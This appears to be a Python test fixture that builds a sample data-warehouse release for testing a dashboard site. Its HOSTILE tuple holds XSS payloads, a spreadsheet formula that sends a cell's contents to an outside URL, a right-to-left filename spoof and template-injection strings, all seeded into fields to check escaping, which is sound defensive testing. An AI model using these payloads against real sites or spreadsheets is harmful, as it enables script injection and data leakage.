"""A small release for the tests of the site: three runs, two channels, hostile words wherever words can stand."""

from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
from mart_samples import (
    Row,
    Sample,
    build_all,
    channel,
    dump,
    ledger,
    load,
    observation,
    post,
    put,
    sample,
    spoken,
    topic,
)

from assets.steps.lineage import lineage_table, table_source_table
from dashboard.subject import Subject
from schemas import PUBLISHED
from schemas.metrics import load_metrics
from warehouse.views import define_view, load_views

HOSTILE = (
    "<script>window.__xss = 1</script>",
    '"><img src=x onerror="window.__xss = 1">',
    "</title></style></script><svg onload=window.__xss=1>",
    "<a href='javascript:window.__xss=1'>سلام</a>",
    "javascript:window.__xss=1",
    '=HYPERLINK("http://example.org/?"&A1)',
    "invoice\u202egnp.exe",
    "zero\u200bwidth \x00 and \x1b[31m escape",
    "{{ 7 * 7 }}{% raw %}",
    "<!-- not a comment --> ]]> &lt;not an entity&gt;",
    "نیم‌فاصله\nدو خط\tبا پرش",
)
RECORDS = 620
"""Quarantined records of the reason that fills more than one page."""

START = datetime.fromisoformat("2026-11-01T06:00")
SUBJECT = Subject("run-3", START + timedelta(days=2), "Asia/Tehran", "0.1.0", "r000003-20261103T060000Z")


def open_sample(folder: Path) -> duckdb.DuckDBPyConnection:
    """The release as a database in memory."""
    given = sample(channels=(1, 2), dumps=())
    given.tables["core.dim_channel"][2:] = [
        channel(1, channel_name=HOSTILE[0], handle="armangram"),
        channel(2, channel_name=HOSTILE[6]),
    ]
    _add_posts(given)
    _add_books(given)
    _add_runs(given)
    con = load(given, folder)
    build_all(con, folder)
    _add_meta(con, folder)
    for view in load_views():
        define_view(con, view)
    return con


def _add_posts(given: Sample) -> None:
    first = date(2024, 1, 6)
    days = [first + timedelta(days=7 * week) for week in range(12)]
    keys = iter(range(1, 1000))
    for day in days:
        burst = 40 if day == days[-1] else 2
        given.add_posts(*(post(next(keys), datetime.combine(day, datetime.min.time())) for _ in range(burst)))
    given.add_posts(post(500, channel_key=2, text=HOSTILE[1]), post(501, channel_key=2, repost_group_key=500))
    copy = observation(500, record_index=200, copy_kind="exact_copy", byte_start=20, byte_end=30)
    given.add("core.fact_post_observation", copy)
    given.add("core.dim_topic", topic(7, HOSTILE[4]))
    given.add("core.fact_post_topic", spoken(500, 7), spoken(501, 7))


def _add_books(given: Sample) -> None:
    count = RECORDS + len(HOSTILE)
    seen = len(given.tables["core.fact_post_observation"])
    given.add("core.dim_dump", dump(1, file_name=HOSTILE[2], byte_count=70_000, staged_at=START))
    parsed = {"observation_count": seen, "artifact_count": 1, "quarantined_count": count, "waived_count": 7}
    books = parsed | {"record_count": seen + 1 + count, "file_name": HOSTILE[2], "run_id": "run-3"}
    given.add("dq.ledger", ledger(1, **books))
    core = {"stage": "core", "record_count": seen, "observation_count": seen, "post_count": seen - 1}
    given.add("dq.ledger", ledger(1, **core, file_name=HOSTILE[2], run_id="run-3", byte_count=None))
    reasons = [("invalid_utf8", f"record {n} \x00") for n in range(RECORDS)]
    reasons += [("text:hostile <b>", words) for words in HOSTILE]
    given.add("dq.quarantine", *(quarantined(n, reason, words) for n, (reason, words) in enumerate(reasons)))
    given.add(
        "dq.excluded_record",
        {"dump_key": 1, "record_index": 5000, "record_kind": "artifact", "artifact_kind": "separator",
         "record_locator": "line 9", "byte_start": 0, "byte_end": 20, "raw_text": HOSTILE[0]},
    )  # fmt: skip
    unknown = {"dump_key": 1, "finding": "unknown_field", "subject": HOSTILE[3], "failed_count": 3}
    given.add("dq.finding", unknown | {"example_value": HOSTILE[5]})
    refused = {"file_id": "0" * 64, "file_name": HOSTILE[1], "byte_count": 3, "reason": HOSTILE[0]}
    given.add("dq.refused_file", refused | {"first_run_id": "run-1", "first_seen_at": START})


def quarantined(n: int, reason: str, words: str, **given: Any) -> Row:
    """A record in quarantine; seen the later the higher its number."""
    plain = {
        "quarantine_id": 1000 + n, "dump_key": 1, "file_name": HOSTILE[2], "record_index": 1000 + n,
        "record_locator": f"line {n}", "byte_start": 100 * n + 1000, "byte_end": 100 * n + 1100, "reason": reason,
        "rule_in_words": "the text is what it should be", "column_name": "text", "failure_case": words,
        "raw_text": words, "status": "replayed" if n % 5 == 0 else "open", "first_run_id": "run-1",
        "first_seen_at": START + timedelta(seconds=n), "code_version": "0.1.0",
    }  # fmt: skip
    return plain | given


OUTCOMES = {
    "core.fact_post:always_good": ("error", "completeness", "passed", "passed", "passed"),
    "core.fact_post.date_key:is_dated": ("warning", "completeness", "passed", "passed", "failed"),
    "core.fact_post.text:still_bad": ("warning", "validity", "failed", "failed", "failed"),
    "dq.ledger.residual:is_zero": ("error", "conservation", "passed", "failed", "passed"),
    "mart.post_frequency_daily:cannot_run": ("warning", "consistency", "passed", "passed", "not_run"),
    "stg.observation:invalid_utf8": ("warning", "validity", "failed", "failed", "failed"),
    "stg.observation:read": ("warning", "validity", "passed", "passed", "passed"),
}
"""Check → severity, dimension, status in each of the three runs."""


def _add_runs(given: Sample) -> None:
    ended = [("run-1", "published"), ("run-2", "held_back"), ("run-3", "published")]
    for n, (run_id, status) in enumerate(ended):
        release = f"r00000{n + 1}-2026110{n + 1}T060000Z" if status == "published" else None
        given.add(
            "dq.run",
            {"run_id": run_id, "started_at": START + timedelta(days=n), "status": status, "release_id": release,
             "code_version": "0.1.0", "config_hash": "c" * 64, "new_dump_count": 1, "parsed_dump_count": 1,
             "refused_file_count": 0, "error": None if release else HOSTILE[0]},
        )  # fmt: skip
        for check_id, (severity, dimension, *statuses) in OUTCOMES.items():
            given.add("dq.check_result", _outcome(run_id, n, check_id, severity, dimension, statuses[n]))


def _outcome(run_id: str, n: int, check_id: str, severity: str, dimension: str, status: str) -> Row:
    subject = check_id.partition(":")[0].split(".")
    has_run = status != "not_run"
    return {
        "run_id": run_id, "check_id": check_id, "table_name": ".".join(subject[:2]),
        "column_name": subject[2] if len(subject) > 2 else None, "dimension": dimension, "severity": severity,
        "status": status, "evaluated_count": 1000 if has_run else None,
        "failed_count": (0 if status == "passed" else 70) if has_run else None, "threshold": 0.0,
        "rule_in_words": f"what {check_id} asks for", "example_value": HOSTILE[0] if not has_run else "5",
        "owner": "curation", "checked_at": START + timedelta(days=n, minutes=5),
    }  # fmt: skip


def _add_meta(con: duckdb.DuckDBPyConnection, folder: Path) -> None:
    tables, columns, relations = [], [], []
    for name, contract in PUBLISHED.items():
        schema, _, table = name.partition(".")
        place = {"table_schema": schema, "table_name": table}
        tables.append(place | {"table_kind": "table", "grain": contract.comment, "comment": contract.comment})
        for n, column in enumerate(contract.columns, 1):
            facts = {"column_name": column.name, "ordinal_position": n, "data_type": column.duckdb_type}
            columns.append(place | facts | {"is_nullable": column.nullable, "comment": column.description})
        for column_name, target, referenced in contract.references():
            to_schema, _, to_table = target.partition(".")
            to = {
                "referenced_schema": to_schema,
                "referenced_table": to_table,
                "referenced_column": referenced,
            }
            relations.append(place | {"column_name": column_name} | to)
    put(con, "meta.table", tables, folder)
    put(con, "meta.column", columns, folder)
    put(con, "meta.relationship", relations, folder)
    put(con, "meta.lineage", lineage_table().to_dicts(), folder)
    put(con, "meta.table_source", table_source_table().to_dicts(), folder)
    put(con, "meta.metric", load_metrics().to_dicts(), folder)
    put(con, "meta.release", [], folder)
